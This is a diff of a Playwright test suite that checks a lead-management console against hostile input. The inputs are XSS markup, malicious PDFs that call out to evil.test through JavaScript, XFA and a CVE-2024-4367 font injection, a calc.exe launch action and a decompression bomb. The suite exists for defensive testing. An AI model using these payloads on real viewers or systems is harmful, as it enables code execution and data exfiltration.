@@ -1,22 +1,33 @@
 import {createServer} from 'node:http';
 import type {AddressInfo} from 'node:net';
+import {deflateSync} from 'node:zlib';
 
 import type {Page} from 'playwright-core';
 import t from 'tap';
 import type {Test} from 'tap';
 
 import {HOSTILE_STRINGS} from '../hostile-strings.js';
+import {OwnerClient} from '../owner-client.js';
 import {makePdf} from '../pdf.js';
 import {makeTextPdf} from '../text-pdf.js';
 import {Visitor} from '../visitor.js';
-import {PHONE, isTooWide, makeLead, openConsole, startConsole} from './console-page.js';
+import {BROWSER} from './browser.js';
+import {
+  PHONE,
+  createSite,
+  findTooWide,
+  makeLead,
+  openConsole,
+  startConsole,
+} from './console-page.js';
 
 const {server, browser} = await startConsole(t);
 
 const MARKUP = '<img src=x onerror="window.ran=1"><script>window.ran=1</script>';
 
-t.test('hostile texts in every field run nothing and break no page', async (t) => {
-  const visitor = await Visitor.arrive(server.url);
+/** Makes a lead whose every text is hostile, at a site with a hostile name. */
+const makeHostileLead = async (site: string): Promise<Visitor> => {
+  const visitor = await Visitor.arrive(server.url, site);
   await visitor.call('PUT', '/api/session/consents', {
     json: {
       consents: [{purpose: 'personal_data', granted: true, wording: MARKUP, locale: 'en'}],
@@ -24,31 +35,52 @@ t.test('hostile texts in every field run nothing and break no page', async (t) =
   });
   await visitor.upload(makePdf(), {name: `${MARKUP}.pdf`});
   await visitor.contact('"<script>window.ran=1</script>"@example.com', MARKUP);
-  await visitor.contact('anna@example.com', MARKUP);
+  await visitor.contact('anna@example.com', MARKUP, {locale: 'ar'});
   for (const [index, body] of [MARKUP, ...HOSTILE_STRINGS].entries())
     await visitor.call('POST', '/api/messages', {json: {client_id: `m${index}`, body}});
+  for (const [index, text] of [MARKUP, '\u202eReversed', 'n'.repeat(1_000)].entries())
+    await server.sql`
+      insert into session_answers (session_uuid, field, kind, question, value, label, position)
+      values (${visitor.uuid}, ${`q${index}`}, 'text', ${text}, ${server.sql.json(text)}, ${text},
+              ${index})`;
+  return visitor;
+};
+
+t.test('hostile texts in every field run nothing and break no page', async (t) => {
+  const site = await createSite(server, MARKUP);
+  const visitor = await makeHostileLead(site);
   const others = HOSTILE_STRINGS.filter((text) => text.trim() && text.length < 100);
-  for (const name of others.slice(0, 30)) await makeLead(server, {name, files: []});
+  for (const name of others.slice(0, 30)) await makeLead(server, {site, name, files: []});
+  await OwnerClient.create(server, {name: MARKUP, roles: {[site]: 'agent'}});
 
   for (const context of [{}, PHONE]) {
     const {page, main, noise, requested} = await openConsole(
       browser,
       server,
-      'demo/leads?view=all',
-      {
-        context,
-      },
+      `${site}/leads?view=all`,
+      {context, name: MARKUP, roles: {[site]: 'owner', demo: 'owner'}},
     );
     await main.locator('.leads [data-uuid]').first().waitFor();
-    t.equal(await isTooWide(page), false, 'the list fits');
-    await page.goto(`${server.url}/console/leads/${visitor.uuid}`);
-    await main.locator('.transcript .message').first().waitFor();
-    await openAllDetails(page);
-    await main.locator('.trail li').first().waitFor({state: 'attached'});
-    t.equal(await isTooWide(page), false, 'the lead fits');
-    await page.goto(`${server.url}/console/demo/site`);
-    await main.locator('.site-page').waitFor();
-    t.equal(await page.evaluate('window.ran'), undefined, 'nothing ran');
+    t.same(await findTooWide(page), [], 'the list');
+    for (const [path, isThere] of [
+      [`leads/${visitor.uuid}`, '.transcript .message'],
+      [`${site}/funnel`, '.bars, .empty'],
+      [`${site}/site`, '.site-page'],
+      [`${site}/people`, '.people'],
+      ['account', '.sessions'],
+    ] as const) {
+      await page.goto(`${server.url}/console/${path}`);
+      await main.locator(isThere).first().waitFor();
+      await openAllDetails(page);
+      t.same(await findTooWide(page), [], path);
+      t.equal(await page.evaluate('window.ran'), undefined, `nothing ran: ${path}`);
+    }
+    if (BROWSER === 'chromium') {
+      await page.goto(`${server.url}/console/leads/${visitor.uuid}`);
+      await main.locator('.transcript .message').first().waitFor();
+      await page.emulateMedia({media: 'print'});
+      t.same(await findTooWide(page), [], 'in print');
+    }
     t.same(noise, [], 'no policy was violated');
     t.same(foreign(requested, server.url), []);
   }
@@ -61,39 +93,61 @@ const openAllDetails = (page: Page) =>
 const foreign = (requested: readonly string[], url: string) =>
   requested.filter((one) => new URL(one).origin !== url && !/^(data|blob):/.test(one));
 
-/** Returns a PDF whose catalogue or page has this action. */
-const withAction = (action: string): Buffer =>
-  Buffer.from(
-    makeTextPdf([['Hello']])
-      .toString('latin1')
-      .replace('/Type /Catalog', `/Type /Catalog ${action}`),
-    'latin1',
-  );
+/** Returns a PDF in which a text of its source is replaced. */
+const makeHostilePdf = (from: string, to: string, pages = [['Hello']]): Buffer =>
+  Buffer.from(makeTextPdf(pages).toString('latin1').replace(from, to), 'latin1');
 
-t.test('a hostile PDF opens nothing and requests nothing', async (t) => {
-  const files = [
+const withEntry = (entry: string): Buffer =>
+  makeHostilePdf('/Type /Catalog', `/Type /Catalog ${entry}`);
+
+const BOMB = deflateSync(deflateSync(Buffer.alloc(64_000_000, ' '))).toString('latin1');
+
+const HOSTILE_PDFS: Record<string, Buffer> = {
+  script: withEntry(
     '/OpenAction << /S /JavaScript /JS (app.alert(1); this.submitForm("http://evil.test/")) >>',
-    '/OpenAction << /S /URI /URI (http://evil.test/) >>',
-    '/OpenAction << /S /Launch /F (calc.exe) >>',
-    '/OpenAction << /S /GoToR /F (http://evil.test/a.pdf) /D [0 /Fit] >>',
-    '/AcroForm << /XFA (<xdp><script>fetch("http://evil.test/")</script></xdp>) >>',
-  ].map((action, index) => ({name: `hostile-${index}.pdf`, bytes: withAction(action)}));
-  const {page, main, noise, requested, context} = await openConsole(browser, server, 'account');
-  for (const file of files) {
-    const {uuid} = await makeLead(server, {files: [file]});
-    const {name} = file;
-    await page.goto(`${server.url}/console/leads/${uuid}`);
-    await main
-      .locator('.documents')
-      .getByRole('button', {name: new RegExp(`Look at .${name}`)})
-      .click();
-    await main.getByRole('button', {name: 'Show pages'}).click();
-    await page.frameLocator('iframe').locator('canvas').first().waitFor();
-  }
-  t.same(noise, []);
-  t.same(foreign(requested, server.url), []);
-  t.equal(context.pages().length, 1, 'no window was opened');
-});
+  ),
+  'a URL': withEntry('/OpenAction << /S /URI /URI (http://evil.test/) >>'),
+  'a program': withEntry('/OpenAction << /S /Launch /F (calc.exe) >>'),
+  'another file': withEntry('/OpenAction << /S /GoToR /F (http://evil.test/a.pdf) /D [0 /Fit] >>'),
+  XFA: withEntry('/AcroForm << /XFA (<xdp><script>fetch("http://evil.test/")</script></xdp>) >>'),
+  'an embedded file': withEntry(
+    '/Names << /EmbeddedFiles << /Names [(a.html) << /Type /Filespec /F (a.html) >>] >> >>',
+  ),
+  'the font of CVE-2024-4367': makeHostilePdf(
+    '/BaseFont /Helvetica',
+    "/BaseFont /Helvetica /FontMatrix [0.1 0 0 0.1 0 (0\\); fetch\\('http://evil.test/'\\)//)]",
+  ),
+  '10,000 pages': makeTextPdf(Array.from({length: 10_000}, () => ['Hello'])),
+  'pages that contain themselves': makeHostilePdf('/Kids [4 0 R]', '/Kids [2 0 R]'),
+  'a page that grows': makeHostilePdf(
+    /<< \/Length \d+ >>\nstream\n[^]*?\nendstream/.exec(
+      makeTextPdf([['Hello']]).toString('latin1'),
+    )?.[0] ?? '',
+    `<< /Length ${BOMB.length} /Filter [/FlateDecode /FlateDecode] >>\nstream\n${BOMB}\nendstream`,
+  ),
+};
+
+t.test(
+  'a hostile PDF opens nothing, requests nothing, and leaves the console usable',
+  async (t) => {
+    const {page, main, noise, requested, context} = await openConsole(browser, server, 'account');
+    for (const [what, bytes] of Object.entries(HOSTILE_PDFS)) {
+      const {uuid} = await makeLead(server, {files: [{name: 'a.pdf', bytes}]});
+      await page.goto(`${server.url}/console/leads/${uuid}`);
+      const documents = main.locator('.documents');
+      await documents.getByRole('button', {name: /Look at .a.pdf/}).click();
+      await documents.getByRole('button', {name: 'Show pages'}).click();
+      const canvas = page.frameLocator('iframe').locator('canvas').first();
+      await canvas.or(documents.getByRole('alert')).first().waitFor();
+      await main.getByRole('button', {name: 'Done'}).click();
+      await main.getByRole('button', {name: 'Open again'}).waitFor();
+      t.equal(await page.evaluate('window.ran'), undefined, what);
+    }
+    t.same(noise, []);
+    t.same(foreign(requested, server.url), []);
+    t.equal(context.pages().length, 1, 'no window was opened');
+  },
+);
 
 t.test('the frame reaches neither the network nor the console', async (t) => {
   const foreign = await startCounter(t);
